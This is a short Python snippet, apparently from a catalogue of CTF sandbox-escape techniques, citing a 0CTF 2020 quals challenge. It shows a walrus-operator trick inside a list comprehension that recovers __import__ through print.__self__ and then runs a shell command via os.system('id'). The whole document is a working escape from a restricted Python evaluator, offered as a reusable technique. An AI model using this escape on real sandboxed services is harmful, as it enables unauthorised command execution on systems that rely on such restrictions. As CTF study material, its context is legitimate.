# Source: https://ur4ndom.dev/posts/2020-06-29-0ctf-quals-pyaucalc/
# Family: walrus
# What: walrus in a comprehension condition leaks __import__ out of the comprehension
[0 for f in [print] if (imp := f.__self__.__import__)]
imp("os").system("id")
